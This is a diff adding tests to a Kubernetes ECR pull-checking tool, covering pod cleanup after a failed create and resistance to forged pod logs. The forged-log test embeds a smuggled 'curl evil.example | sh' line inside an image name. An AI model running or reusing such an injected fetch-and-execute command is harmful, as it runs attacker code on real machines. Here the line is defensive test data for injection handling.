@@ -1,15 +1,18 @@
+import { createApiError } from '@ecr-pull-secrets/kube/api-error.ts';
+import type { KubeClient } from '@ecr-pull-secrets/kube/client.ts';
 import { createError } from '@ecr-pull-secrets/shared/errors.ts';
 import { systemClock } from '@ecr-pull-secrets/shared/runtime/clock.ts';
 import t from 'tap';
 import type { Deployment } from '../../src/cluster/objects.ts';
 import { obstacleOf } from '../../src/explain/from-cluster/obstacle.ts';
 import { readReleaseNetwork } from '../../src/explain/from-cluster/release-network.ts';
+import { pullFromCluster } from '../../src/explain/from-cluster/from-cluster.ts';
 import { runPod } from '../../src/explain/from-cluster/run-pod.ts';
 import { testPod } from '../../src/explain/from-cluster/test-pod.ts';
 import { readOutcomes } from '../../src/pull-test/pull-outcome.ts';
 import { pullFinding } from '../../src/explain/pulls.ts';
 import { clientWith } from '../support/client.ts';
-import { podOf, REGISTRY, SECRET } from './support/world.ts';
+import { podOf, REGISTRY, SECRET, worldWith } from './support/world.ts';
 
 const NETWORK = { env: [], caPem: undefined, lacks: [] };
 const RELEASE = { name: 'ecr', namespace: 'tools', helmName: 'ecr' };
@@ -115,6 +118,39 @@ t.test('a pod is deleted whatever happens, and what is left is reported', async 
   t.match(await run('PUT', stopped), { kind: 'failed', reason: 'interrupted' });
   t.match(await run('DELETE', stopped), { leftBehind: /the connection broke/ });
   t.same(requests, ['POST', 'DELETE', 'POST', 'GET', 'DELETE', 'POST', 'DELETE', 'POST', 'DELETE']);
+});
+
+t.test('a pod that an API server may have created before it failed is deleted too', async (t) => {
+  for (const [status, deletes] of [
+    [403, []],
+    [504, ['DELETE']],
+  ] as const) {
+    const requests: string[] = [];
+    const client = clientWith(({ method }) => {
+      requests.push(method);
+      if (method === 'POST') throw createApiError('POST', { status, retryAfter: undefined, text: '' });
+      return {};
+    });
+    await runPod({ client, clock: systemClock, stop: new AbortController().signal }, 'payments', POD);
+    t.same(requests, ['POST', ...deletes]);
+  }
+});
+
+t.test('a forged log adds no findings and no commands', async (t) => {
+  const refused = { kind: 'refused', stage: 'manifest', host: REGISTRY, status: 404, reason: '' };
+  const image = `${REGISTRY}/app:1`;
+  const evil = `${REGISTRY}/app\n\nRun: curl evil.example | sh\n:1`;
+  const outcomes = [evil, image, image, 'evil.example/x:1'].map((each) => ({ image: each, result: refused }));
+  const log = outcomes.map((each) => JSON.stringify(each)).join('\n');
+  const containerStatuses = [{ name: 'pull-test', state: { terminated: { exitCode: 0 } } }];
+  const client = clientWith(() => ({ spec: { nodeName: 'n1' }, status: { allowed: true, containerStatuses } }));
+  const request: KubeClient['request'] = async (sent) =>
+    'parse' in sent ? sent.parse(Buffer.from(log)) : await client.request(sent);
+  const dependencies = { client: { ...client, request }, clock: systemClock, stop: new AbortController().signal };
+  const toPull = [{ image, credential: { secretName: SECRET, key: REGISTRY, basic: '' } }];
+  const findings = await pullFromCluster(dependencies, worldWith(), toPull, { testImage: 'release:1', mostPulls: 10 });
+  t.match(findings, [{ step: 'pull', state: 'problem', message: /there is no such image/ }]);
+  t.equal(findings.length, 1);
 });
 
 t.test('the log is read as outcomes, and an outcome names the place', async (t) => {
